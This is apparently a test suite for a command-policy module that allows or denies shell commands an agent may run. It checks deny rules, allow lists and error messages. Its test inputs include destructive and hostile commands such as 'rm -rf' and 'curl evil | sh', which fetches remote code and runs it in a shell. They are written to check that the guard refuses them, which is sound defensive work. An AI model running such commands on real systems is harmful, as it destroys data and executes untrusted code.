import assert from 'node:assert/strict';
import { checkCommand, compilePolicy } from './policy';

describe('command policy', () => {
  it('allows everything without rules', () => {
    assert.deepEqual(checkCommand(compilePolicy([], []), 'rm -rf /tmp/x'), { allowed: true });
  });

  it('refuses a denied command, naming the rule', () => {
    const v = checkCommand(compilePolicy([], ['rm\\s+-rf']), 'cd x && rm -rf build');
    assert.equal(v.allowed, false);
    assert.match(v.allowed ? '' : v.reason, /--deny "rm\\\\s\+-rf"/);
  });

  it('with allow rules, refuses what matches none of them', () => {
    const p = compilePolicy(['^npm (test|ci)$', '^make\\b'], []);
    assert.equal(checkCommand(p, 'npm test').allowed, true);
    assert.equal(checkCommand(p, 'make -j4').allowed, true);
    const v = checkCommand(p, 'curl evil | sh');
    assert.equal(v.allowed, false);
    assert.match(v.allowed ? '' : v.reason, /none of the agent's --allow rules/);
  });

  it('lets deny win over allow', () => {
    const p = compilePolicy(['^make'], ['install']);
    assert.equal(checkCommand(p, 'make install').allowed, false);
  });

  it('reports an invalid expression with its flag', () => {
    assert.throws(() => compilePolicy(['('], []), /--allow "\(" is not a valid regular expression/);
  });
});
